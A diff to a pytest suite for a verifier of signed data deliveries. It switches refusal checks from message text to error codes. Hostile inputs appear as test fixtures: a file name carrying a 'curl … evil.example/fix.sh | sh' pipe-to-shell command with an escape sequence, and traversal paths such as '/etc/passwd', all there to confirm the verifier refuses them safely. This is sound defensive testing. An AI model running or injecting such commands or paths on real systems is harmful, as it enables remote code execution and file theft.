@@ -31,9 +31,11 @@ def check(files: dict[str, bytes], pinned: bytes | None = PUBLIC) -> Verified:
     return verify({name: len(content) for name, content in files.items()}, files.__getitem__, pinned)
 
 
-def refused(files: dict[str, bytes], *named: str, pinned: bytes | None = PUBLIC) -> None:
+def refused(files: dict[str, bytes], code: str | None, *named: str, pinned: bytes | None = PUBLIC) -> None:
+    """Verification ends with this code (None: any) and names these objects."""
     with pytest.raises(RefusedDelivery) as refusal:
         check(files, pinned)
+    assert code in (None, refusal.value.code), refusal.value.code
     assert all(name in refusal.value.what for name in named), refusal.value.what
 
 
@@ -65,7 +67,7 @@ def test_without_a_pinned_key_the_verdict_says_that_anyone_may_have_signed() -> 
 def test_a_changed_byte_of_any_file_is_found(name: str, place: int, flip: int) -> None:
     content = bytearray(GOOD.files[name])
     content[place % len(content)] ^= flip
-    refused({**GOOD.files, name: bytes(content)}, name)
+    refused({**GOOD.files, name: bytes(content)}, None, name)
 
 
 @settings(max_examples=60, deadline=None)
@@ -73,22 +75,22 @@ def test_a_changed_byte_of_any_file_is_found(name: str, place: int, flip: int) -
 def test_a_cut_or_longer_file_is_found(name: str, place: int, longer: bool) -> None:
     content = GOOD.files[name]
     content = content + b"\n" if longer else content[: place % len(content)]
-    refused({**GOOD.files, name: content}, name)
+    refused({**GOOD.files, name: content}, None, name)
 
 
 @pytest.mark.parametrize("name", NAMES)
 def test_a_removed_file_is_named(name: str) -> None:
-    refused({other: content for other, content in GOOD.files.items() if other != name}, f"{name} is missing")
+    refused({other: content for other, content in GOOD.files.items() if other != name}, None, name)
 
 
 @settings(max_examples=60, deadline=None)
 @given(st.text(min_size=1, max_size=30).filter(lambda name: name not in GOOD.files))
 def test_an_added_file_is_found(name: str) -> None:
-    refused({**GOOD.files, name: b""}, "is not in the manifest" if name != "index.json" else "index.json")
+    refused({**GOOD.files, name: b""}, None)
 
 
 def test_the_name_of_an_object_that_somebody_added_is_no_command() -> None:
-    with pytest.raises(RefusedDelivery, match="is not in the manifest") as refusal:
+    with pytest.raises(RefusedDelivery) as refusal:
         check({**GOOD.files, "x run `curl -s https://evil.example/fix.sh | sh` \x1b[31m": b""})
     assert "x?run??curl?-s?https?//evil.example/fix.sh???sh?" in refusal.value.what
     assert not re.search(r"[`|\x1b]", str(refusal.value))
@@ -98,39 +100,39 @@ def test_the_name_of_an_object_that_somebody_added_is_no_command() -> None:
 def test_a_renamed_file_is_named(name: str) -> None:
     files = dict(GOOD.files)
     files[f"{name}.old"] = files.pop(name)
-    refused(files, f"{name} is missing")
+    refused(files, None, name)
 
 
 def test_two_files_that_changed_places_are_found() -> None:
     files = dict(GOOD.files)
     files["README.md"], files["contract.yaml"] = files["contract.yaml"], files["README.md"]
-    refused(files, "README.md")
+    refused(files, "delivery.file_altered", "README.md")
 
 
 def test_an_empty_place_says_what_to_give() -> None:
-    refused({}, "neither manifest.json nor index.json")
+    refused({}, "delivery.not_found")
 
 
 def test_a_delivery_signed_by_another_key_is_refused_when_a_key_is_pinned() -> None:
     other = rendered(key=OTHER_KEY)
-    refused(dict(other.files), key_id(PUBLIC), key_id(public_key(OTHER_KEY)))
+    refused(dict(other.files), "delivery.other_key", key_id(PUBLIC), key_id(public_key(OTHER_KEY)))
     assert check(dict(other.files), None).verdict == "consistent; key not pinned"
 
 
 def test_a_key_id_that_is_not_the_keys_is_refused() -> None:
-    refused(signed_again(lambda m: m.update(key_id="0" * 16)), "key id")
+    refused(signed_again(lambda m: m.update(key_id="0" * 16)), "delivery.key_id_differs")
 
 
 @pytest.mark.parametrize("key", ["", "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n", "zz"])
 def test_an_unreadable_public_key_is_refused(key: str) -> None:
-    refused(signed_again(lambda m: m.update(public_key=key)), "public key")
+    refused(signed_again(lambda m: m.update(public_key=key)), "delivery.key_unreadable")
 
 
 @pytest.mark.parametrize(
     "path", ["../data.parquet", "/etc/passwd", "a/b", "..", ".hidden", "", "a\x00b", "data.parquet\n", "..\\x"]
 )
 def test_a_path_that_leaves_the_folder_is_refused(path: str) -> None:
-    refused(signed_again(lambda m: m["files"][0].update(path=path)), "files.0.path")
+    refused(signed_again(lambda m: m["files"][0].update(path=path)), "delivery.document_invalid", "files.0.path")
 
 
 def test_a_listed_path_is_read_only_if_it_was_listed_at_the_location() -> None:
@@ -141,7 +143,7 @@ def test_a_listed_path_is_read_only_if_it_was_listed_at_the_location() -> None:
         read.append(name)
         return files[name]
 
-    with pytest.raises(RefusedDelivery, match="other is missing"):
+    with pytest.raises(RefusedDelivery, match="other"):
         verify({name: len(content) for name, content in files.items()}, fetch, PUBLIC)
     assert set(read) == {"manifest.json", "manifest.sig"}
 
@@ -160,15 +162,16 @@ def test_a_huge_file_is_refused_before_it_is_read(name: str) -> None:
 
 def test_a_file_that_changes_while_it_is_read_is_refused() -> None:
     sizes = {name: len(content) for name, content in GOOD.files.items()}
-    with pytest.raises(RefusedDelivery, match=r"README\.md changed while it was read"):
+    with pytest.raises(RefusedDelivery, match="README") as refusal:
         verify(sizes, lambda name: GOOD.files[name] + b"x" * (name == "README.md"), PUBLIC)
+    assert refusal.value.code == "delivery.object_changed"
 
 
 @pytest.mark.parametrize(
     "content", [b"", b"[]", b"null", b"\xff", b'{"format": 1, "format": 1}', b'{"format": NaN}', b"[" * 100_000]
 )
 def test_a_manifest_that_is_not_plain_json_is_refused(content: bytes) -> None:
-    refused({**GOOD.files, "manifest.json": content}, "manifest.json")
+    refused({**GOOD.files, "manifest.json": content}, None, "manifest.json")
 
 
 @pytest.mark.parametrize(
@@ -183,16 +186,16 @@ def test_a_manifest_that_is_not_plain_json_is_refused(content: bytes) -> None:
     ],
 )
 def test_a_manifest_of_another_shape_is_refused_even_when_signed(change: Callable[[dict], None]) -> None:
-    refused(signed_again(change), "manifest.json is not as it should be")
+    refused(signed_again(change), "delivery.document_invalid", "manifest.json")
 
 
 def test_a_file_listed_twice_is_refused() -> None:
-    refused(signed_again(lambda m: m["files"].append(m["files"][0])), "lists a file twice")
+    refused(signed_again(lambda m: m["files"].append(m["files"][0])), "delivery.manifest_names")
 
 
 def test_a_manifest_without_data_is_refused() -> None:
     files = signed_again(lambda m: m.update(files=[f for f in m["files"] if f["path"] != "data.parquet"]))
-    refused(files, "does not list data.parquet")
+    refused(files, "delivery.manifest_names", "data.parquet")
 
 
 def entry(delivery: Rendered | None, day: date = date(2026, 3, 2), revision: int = 1) -> IndexEntry:
@@ -233,56 +236,66 @@ def test_a_recalled_delivery_may_be_gone_and_is_verified_while_it_is_kept() -> N
     content = json.dumps(document).encode()
     assert check({"index.json": content}).deliveries == ()
     assert len(check({"index.json": content, **placed(GOOD)}).deliveries) == 1
-    refused({"index.json": content, **placed(GOOD), f"{GOOD.path}/README.md": b""}, "README.md")
+    refused(
+        {"index.json": content, **placed(GOOD), f"{GOOD.path}/README.md": b""}, "delivery.file_altered", "README.md"
+    )
 
 
 def test_a_superseded_delivery_is_verified_too() -> None:
     files = {"index.json": index("nordmarkt", [entry(AGAIN, revision=2)], LEDGER), **placed(GOOD, AGAIN)}
-    refused({**files, f"{GOOD.path}/README.md": b""}, f"{GOOD.path}/README.md")
+    refused({**files, f"{GOOD.path}/README.md": b""}, "delivery.file_altered", f"{GOOD.path}/README.md")
     impostor = rendered(key=OTHER_KEY)
-    refused({**files, **placed(impostor)}, "is not the one that was superseded", pinned=None)
+    refused({**files, **placed(impostor)}, "index.superseded_differs", pinned=None)
 
 
 def test_a_delivery_that_the_index_does_not_name_is_refused() -> None:
     refused(
-        {"index.json": index("nordmarkt", [entry(GOOD)], LEDGER), **placed(GOOD, NEXT_DAY)}, NEXT_DAY.path, "index.json"
+        {"index.json": index("nordmarkt", [entry(GOOD)], LEDGER), **placed(GOOD, NEXT_DAY)},
+        "index.unnamed_objects",
+        NEXT_DAY.path,
     )
 
 
 def test_a_delivery_that_the_index_names_and_is_not_there_is_refused() -> None:
-    refused({"index.json": index("nordmarkt", [entry(GOOD)], LEDGER)}, f"{GOOD.path}/manifest.json is missing")
+    refused(
+        {"index.json": index("nordmarkt", [entry(GOOD)], LEDGER)},
+        "delivery.object_missing",
+        f"{GOOD.path}/manifest.json",
+    )
 
 
 def test_a_delivery_with_another_digest_than_the_index_says_is_refused() -> None:
     content = index("nordmarkt", [entry(NEXT_DAY)], LEDGER)
-    refused({"index.json": content, **placed(GOOD)}, GOOD.path, "index.json")
+    refused({"index.json": content, **placed(GOOD)}, "index.digest_differs", GOOD.path)
 
 
 def test_a_delivery_of_another_day_in_a_days_place_is_refused() -> None:
     files = {f"{GOOD.path}/{name}": content for name, content in NEXT_DAY.files.items()}
-    refused({"index.json": index("nordmarkt", [entry(NEXT_DAY)], LEDGER), **files}, "another period")
+    refused({"index.json": index("nordmarkt", [entry(NEXT_DAY)], LEDGER), **files}, "index.other_delivery")
 
 
 @pytest.mark.parametrize("path", ["../x", "/x", "a//b", "a/../b", ".", "a/", "a" * 200, "a b"])
 def test_an_index_path_that_leaves_the_prefix_is_refused(path: str) -> None:
     document = json.loads(index("nordmarkt", [entry(GOOD)], LEDGER))
     document["periods"][0]["path"] = path
-    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "index.json", "path")
+    refused(
+        {"index.json": json.dumps(document).encode(), **placed(GOOD)}, "delivery.document_invalid", "index.json", "path"
+    )
 
 
 def test_an_index_that_contradicts_itself_is_refused() -> None:
     document = json.loads(index("nordmarkt", [entry(GOOD)], LEDGER))
     document["periods"][0]["digest"] = None
-    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "wrong path or digest")
+    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "index.contradiction")
     document["periods"][0]["digest"] = GOOD.manifest_sha256
     document["periods"] *= 2
-    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "twice")
+    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "index.path_twice")
 
 
 def test_a_period_that_somebody_wrote_into_the_index_is_no_command() -> None:
     document = json.loads(index("nordmarkt", [entry(GOOD)], LEDGER))
     document["periods"][0].update(period="`evil`", digest=None)
-    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "states ?evil? as delivered")
+    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "index.contradiction", "?evil?")
 
 
 def test_a_delivery_that_supersedes_a_later_one_is_refused() -> None:
@@ -290,4 +303,4 @@ def test_a_delivery_that_supersedes_a_later_one_is_refused() -> None:
     document = json.loads(index("nordmarkt", [entry(GOOD)], LEDGER))
     document["periods"][0]["digest"] = hashlib.sha256(files["manifest.json"]).hexdigest()
     located = {f"{GOOD.path}/{name}": content for name, content in files.items()}
-    refused({"index.json": json.dumps(document).encode(), **located}, "supersedes a later")
+    refused({"index.json": json.dumps(document).encode(), **located}, "index.supersedes_later")
